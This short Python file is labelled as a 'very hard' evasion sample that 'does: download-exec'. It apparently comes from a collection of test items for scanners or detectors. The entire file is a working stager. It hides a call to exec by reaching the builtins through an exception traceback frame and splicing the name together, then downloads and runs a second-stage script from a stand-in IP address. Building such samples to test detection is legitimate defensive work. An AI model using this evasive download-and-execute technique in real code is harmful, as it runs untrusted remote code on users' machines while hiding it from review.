# evasion: the builtins reached through a caught exception's traceback frame (tb_frame.f_builtins), then the downloaded stage run with the entry found there
# grade: very hard; does: download-exec
import urllib.request


def frame_of_failure():
    try:
        {}["missing"]
    except KeyError as err:
        return err.__traceback__.tb_frame


table = frame_of_failure().f_builtins
runner = table["".join(("ex", "ec"))]
stage = urllib.request.urlopen("http://198.51.100.23/stage2.py", timeout=10).read()
runner(stage.decode("utf-8"), {"__name__": "__main__"})
